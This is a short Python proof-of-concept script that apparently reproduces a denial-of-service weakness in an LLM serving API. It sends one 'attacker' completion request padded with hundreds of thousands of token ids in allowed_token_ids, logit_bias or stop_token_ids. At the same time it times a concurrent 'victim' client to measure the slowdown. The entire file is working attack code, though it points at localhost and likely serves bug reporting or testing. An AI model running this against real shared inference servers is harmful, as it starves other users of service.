# Per-step Python work proportional to a request's id lists, times n, on the engine thread.
import asyncio, httpx, json, sys, time
import os
BASE = os.environ.get("BASE", "http://127.0.0.1:18401")
kind, N, T = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
body = {"prompt": "x", "max_tokens": T, "temperature": 0, "n": N, "ignore_eos": True}
if kind == "allowed": body["allowed_token_ids"] = list(range(49152))
if kind == "allowed_dup": body["allowed_token_ids"] = [5] * 400000
if kind == "bias": body["logit_bias"] = {str(i): 0.01 for i in range(49152)}
if kind == "stopids": body["stop_token_ids"] = [49151] * 400000
if kind == "stopids_min": body["stop_token_ids"] = [49151] * 400000; body["min_tokens"] = T
print(kind, "body bytes", len(json.dumps(body)))
async def victim(c, lat, ev):
    while not ev.is_set():
        t = time.time()
        r = await c.post("/v1/completions", json={"prompt": "hello world", "max_tokens": 8, "temperature": 0})
        lat.append((round(time.time() - t, 3), r.status_code))
        await asyncio.sleep(0.05)
async def main():
    async with httpx.AsyncClient(base_url=BASE, timeout=300) as c:
        lat = []; ev = asyncio.Event()
        v = asyncio.create_task(victim(c, lat, ev))
        t = time.time(); r = await c.post("/v1/completions", json=body); dt = time.time() - t
        ev.set(); await v
        print("attacker", r.status_code, f"{dt:.2f}s", r.json().get("usage", r.text[:200]))
        ls = sorted(l for l, _ in lat)
        print("victim during: n=%d median %.3f max %.3f statuses %s" % (len(ls), ls[len(ls)//2], ls[-1], {s for _, s in lat}))
asyncio.run(main())
